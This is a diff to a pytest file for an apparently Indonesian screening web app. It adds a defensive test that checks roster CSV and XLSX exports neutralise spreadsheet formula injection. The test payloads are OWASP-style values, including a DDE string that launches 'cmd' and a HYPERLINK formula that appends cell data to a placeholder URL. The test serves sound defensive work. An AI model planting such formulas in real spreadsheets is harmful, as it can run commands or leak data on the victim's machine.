@@ -8,11 +8,13 @@ world per module: the many thousand requests share them, and each case resets on
 changes (the officer's draft, the referral it acts on).
 """
 
+import csv
 import re
 from dataclasses import dataclass, field
 from io import BytesIO
 from urllib.parse import quote, urlsplit
 
+import openpyxl
 import pytest
 from flask import Request, got_request_exception
 from werkzeug.datastructures import ImmutableMultiDict
@@ -20,6 +22,7 @@ from werkzeug.datastructures import ImmutableMultiDict
 from screening import journey
 from screening.clock import now_iso
 from screening.demo.screenings import HEALTHY
+from screening.exports import FORMULA_STARTS
 from screening.printing import jobs as print_jobs
 from screening.roster.columns import LABELS
 from screening.store import responses
@@ -148,7 +151,7 @@ ROUTES = {
     ("screening.review", "POST"): Route("/skrining/periksa"),
     ("screening.result", "GET"): Route("/skrining/hasil", officer="submitted"),
     ("officers.index", "GET"): Route("/kpu/petugas/", query=AREA),
-    ("officers.export_links", "GET"): Route("/kpu/petugas/tautan.xlsx", query=AREA),
+    ("officers.export_links", "POST"): Route("/kpu/petugas/tautan.xlsx", form=AREA),
     ("officers.reissue_link", "POST"): Route("/kpu/petugas/{officer_id}/tautan-baru"),
     ("officers.revoke_link", "POST"): Route("/kpu/petugas/{officer_id}/cabut"),
     ("roster.upload", "GET"): Route("/kpu/roster/"),
@@ -549,3 +552,56 @@ def test_a_roster_of_hostile_cells_goes_through_upload_preview_import_and_hand_b
     assert [r.status_code for r in steps] == [302, 200, 302, 200, 200, 302]
     for response in steps:
         assert response.mimetype != "text/html" or SCRIPT not in response.get_data(as_text=True)
+
+
+# What a spreadsheet would run: OWASP's CSV-injection examples.
+FORMULAS = {
+    "hyperlink": '=HYPERLINK("http://x"&F2,"Buka")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3",
+    "at": "@SUM(A1:A9)",
+    "tab": "\t=1+1",
+}
+
+
+def _live_formulas(response) -> list[str]:
+    """Cells of a CSV or XLSX download that a spreadsheet would run as a formula."""
+    if response.mimetype == "text/csv":
+        text = response.get_data().decode("utf-8-sig")
+        cells = [cell for row in csv.reader(text.splitlines(), delimiter=";") for cell in row]
+        return [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    sheet = openpyxl.load_workbook(BytesIO(response.get_data())).active
+    return [
+        repr(cell.value)
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+        or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS))
+    ]
+
+
+def test_formulas_in_every_roster_column_come_out_inert_in_every_spreadsheet(world):
+    from tests.roster.helpers import FIELD_OF, HEADER, csv_bytes, good_cells
+
+    rows = [HEADER]
+    serial = 7000
+    for value in FORMULAS.values():
+        for column in HEADER:
+            # No FKTP: this world has none of the demo's, and the formula is the one fault.
+            cells = good_cells(serial, **{"fktp_code": None, FIELD_OF[column]: value})
+            rows.append([cells[FIELD_OF[h]] for h in HEADER])
+            serial += 1
+    imported = good_cells(serial, fktp_code=None, name=FORMULAS["hyperlink"])  # a name is text
+    rows.append([imported[FIELD_OF[h]] for h in HEADER])
+    client = world.app.test_client()
+    _become(client, world, "kpu", None)
+    upload = {"file": (BytesIO(csv_bytes(rows)), "petugas.csv")}
+    assert client.post("/kpu/roster/", data=upload).status_code == 302
+    downloads = [client.get("/kpu/roster/ditolak.csv"), client.get("/kpu/roster/ditolak.xlsx")]
+    assert client.post("/kpu/roster/impor").status_code == 302
+    downloads.append(client.post("/kpu/petugas/tautan.xlsx", data={"kelurahan": "3375011002"}))
+    assert [r.status_code for r in downloads] == [200, 200, 200]
+    for response in downloads:
+        assert _live_formulas(response) == [], response.request.path
+    links = openpyxl.load_workbook(BytesIO(downloads[2].get_data())).active
+    assert "'" + FORMULAS["hyperlink"] in [row[0] for row in links.iter_rows(values_only=True)]
